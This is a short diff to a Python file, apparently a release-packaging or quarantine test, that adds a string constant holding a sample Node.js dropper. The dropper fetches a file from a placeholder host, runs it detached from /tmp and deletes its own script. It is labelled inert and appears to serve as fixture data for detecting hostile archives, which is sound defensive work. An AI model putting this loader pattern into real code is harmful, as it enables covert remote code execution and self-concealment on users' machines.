@@ -22,6 +22,14 @@ import pack  # noqa: E402
 CORDON = ROOT / "build" / "release" / "cordon"
 NOBODY = 65534
 HOUR, DAY = 3600, 86400
+# What an archive may bring: never run here. It takes the environment, sends it away and removes itself, by its words.
+DROPPER = """// inert
+const https = require("https"), fs = require("fs"), cp = require("child_process");
+https.get("https://files.example.invalid/stage", (answer) => {
+  const out = fs.createWriteStream("/tmp/inert-stage");
+  answer.pipe(out).on("finish", () => { cp.spawn("/tmp/inert-stage", [], { detached: true, stdio: "ignore" }).unref(); fs.unlinkSync(__filename); });
+});
+"""
 
 
 def stamp(age):
